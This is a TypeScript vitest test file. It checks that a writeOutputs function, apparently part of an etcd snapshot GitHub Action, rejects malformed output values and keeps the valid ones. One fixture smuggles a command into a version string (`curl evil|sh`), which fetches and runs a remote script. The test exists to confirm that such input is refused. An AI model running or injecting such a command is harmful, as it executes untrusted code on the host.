import { expect, test } from "vitest";
import { writeOutputs, type Outputs } from "../../../src/action/outputs.ts";
import { hasCode } from "../../../src/errors.ts";

function write(outputs: Outputs): Record<string, string> {
  const set: Record<string, string> = {};
  writeOutputs((name, value) => (set[name] = value), outputs);
  return set;
}

test("outputs are set by their names as text; what is absent is not set", () => {
  expect(write({ snapshotUri: "s3://b/a.db", sizeBytes: 20, apiDowntimeSeconds: 0, recovered: false })).toStrictEqual({
    "snapshot-uri": "s3://b/a.db",
    "snapshot-size-bytes": "20",
    "api-downtime-seconds": "0",
    recovered: "false",
  });
});

test.each<[Outputs]>([
  [{ snapshotUri: "s3://b/a\nb" }],
  [{ renderedManifest: "/tmp/a\rb" }],
  [{ etcdVersion: "3.5.21`curl evil|sh`" }],
  [{ etcdVersion: "3.5.21\n" }],
  [{ presignedUrlExpiresAt: "soon" }],
  [{ encryptionKeySecretName: "a;b" }],
  [{ sha256: "ab" }],
  [{ revision: Number.NaN }],
  [{ apiDowntimeSeconds: Infinity }],
])("%o is left out, and loses no other", (outputs) => {
  const set: Record<string, string> = {};
  expect(() => {
    writeOutputs((name, value) => (set[name] = value), { recordUri: "s3://b/a.json", ...outputs, recovered: true });
  }).toThrow(expect.toSatisfy((error) => hasCode(error, "output-malformed")));
  expect(set).toStrictEqual({ "record-uri": "s3://b/a.json", recovered: "true" });
});

test("an output that cannot be written loses no other", () => {
  const set: Record<string, string> = {};
  const write = (name: string, value: string): void => {
    if (name === "snapshot-uri") throw new Error("ENOSPC");
    set[name] = value;
  };
  expect(() => {
    writeOutputs(write, { snapshotUri: "s3://b/a.db", recovered: true, errorCode: "cancelled" });
  }).toThrow(expect.toSatisfy((error) => hasCode(error, "runner-unwritable")));
  expect(set).toStrictEqual({ recovered: "true", "error-code": "cancelled" });
});
